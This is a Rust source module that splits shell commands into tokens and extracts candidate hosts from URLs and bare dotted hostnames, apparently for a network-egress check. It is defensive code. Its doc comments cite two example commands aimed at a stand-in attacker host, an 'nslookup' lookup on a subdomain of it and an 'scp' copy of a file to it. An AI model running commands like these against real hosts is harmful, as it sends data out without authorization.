//! Shell tokenization and host extraction
//!
//! Finds the hosts a command might talk to, from two independent sources:
//! `scheme://host` URLs anywhere in the text, and bare dotted hostnames
//! standing as their own (quote-aware) token.

use once_cell::sync::Lazy;
use regex::Regex;

/// `scheme://authority`, authority captured up to path, query or quote
static URL_AUTHORITY: Lazy<Regex> = Lazy::new(|| {
    Regex::new(r#"(?i)\b[a-z][a-z0-9+.\-]*://([^/\s'"?#]+)"#).expect("static regex")
});

/// A dotted hostname at the start of a token
static BARE_HOST: Lazy<Regex> =
    Lazy::new(|| Regex::new(r"^([A-Za-z0-9.\-]+\.[A-Za-z]{2,})").expect("static regex"));

/// Split a command into shell words. Unbalanced quotes fall back to a
/// plain whitespace split.
pub fn tokenize(command: &str) -> Vec<String> {
    shlex::split(command)
        .unwrap_or_else(|| command.split_whitespace().map(String::from).collect())
}

/// Host part of an authority: drop `user@` and `:port`
pub(crate) fn authority_host(authority: &str) -> &str {
    let host = authority.rsplit('@').next().unwrap_or(authority);

    if let Some(rest) = host.strip_prefix('[') {
        // IPv6 literal
        return rest.split(']').next().unwrap_or(rest);
    }
    host.split(':').next().unwrap_or(host)
}

/// Hosts of every `scheme://` URL in the command, in order
pub fn url_hosts(command: &str) -> Vec<String> {
    URL_AUTHORITY
        .captures_iter(command)
        .filter_map(|caps| caps.get(1))
        .map(|m| authority_host(m.as_str()).to_string())
        .filter(|host| !host.is_empty())
        .collect()
}

/// Dotted hostnames standing as their own token (`nslookup x.evil.com`,
/// `scp f user@evil.com:/tmp`)
pub fn bare_hosts(command: &str) -> Vec<String> {
    tokenize(command)
        .iter()
        .filter_map(|token| {
            let token = token.rsplit('@').next().unwrap_or(token);
            BARE_HOST
                .captures(token)
                .and_then(|caps| caps.get(1))
                .map(|m| m.as_str().to_string())
        })
        .collect()
}

/// URL hosts first, then bare hosts, without duplicates
pub fn candidate_hosts(command: &str) -> Vec<String> {
    let mut hosts = url_hosts(command);
    for host in bare_hosts(command) {
        if !hosts.contains(&host) {
            hosts.push(host);
        }
    }
    hosts
}
